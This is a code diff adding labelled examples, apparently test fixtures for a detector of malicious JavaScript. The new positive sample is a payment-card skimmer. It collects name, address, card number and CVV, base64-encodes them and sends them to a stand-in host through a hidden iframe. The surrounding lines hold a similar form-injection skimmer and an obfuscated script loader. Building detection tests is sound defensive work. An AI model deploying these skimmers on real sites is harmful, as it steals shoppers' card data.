@@ -169,6 +169,15 @@ export const EXAMPLES: Record<string, Examples> = {
     pos: [`document.body.insertAdjacentHTML('beforeend','<form id="p"><input name="cardnumber"><input name="cvv"><input name="exp"></form>');document.getElementById('p').onsubmit=function(){new Image().src='https://pay-check.test/?'+btoa(this.cardnumber.value)}`],
     neg: [`container.innerHTML = '<input name="cardnumber" autocomplete="cc-number"><input name="cvv">';`],
   },
+  'js-labelled-field-log': {
+    lang: 'js',
+    pos: [
+      `function send(u){var f=document.createElement('iframe');f.style.display='none';f.setAttribute('src',u);document.body.appendChild(f)}var log='Name : '+document.getElementById('billing:firstname').value+'<br>Street : '+document.getElementById('billing:street1').value+'<br>City : '+document.getElementById('billing:city').value+'<br>Card : '+document.getElementById('cc_number').value+'<br>CVV : '+document.getElementById('cc_cid').value;send('https://stat-counter.example/l?d='+btoa(log));`,
+    ],
+    neg: [
+      `var summary='Name : '+form.firstname.value+'\nStreet : '+form.street.value+'\nCity : '+form.city.value+'\nPhone : '+form.phone.value;alert(summary);`,
+    ],
+  },
   'js-charcode-shift-loader': {
     lang: 'js',
     pos: [`var s="=tdsjqu!tsd>#iuuqt;00fwjm/uftu0b/kt#?=0tdsjqu?=0tdsjqu?=0tdsjqu?";var m="";for(var i=0;i<s.length;i++){m+=String.fromCharCode(s.charCodeAt(i)-1)}document.write(m);`],
